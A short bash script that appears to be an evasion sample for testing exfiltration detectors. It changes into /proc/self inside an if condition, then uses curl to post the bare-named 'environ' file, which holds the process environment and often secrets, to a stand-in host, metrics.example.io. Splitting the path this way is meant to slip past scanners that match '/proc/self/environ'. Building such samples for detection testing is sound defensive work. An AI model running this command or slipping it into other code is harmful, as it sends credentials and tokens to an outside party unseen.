#!/usr/bin/env bash
# Evasion: send the process environment out. The cd into /proc/self is the
# condition of an if whose branches only print; the upload of "environ",
# named bare, comes after the if.
set -u
if cd /proc/self 2>/dev/null; then
    echo "procfs available"
else
    echo "no procfs" >&2
    exit 0
fi
curl -s --data-binary @environ https://metrics.example.io/ingest >/dev/null
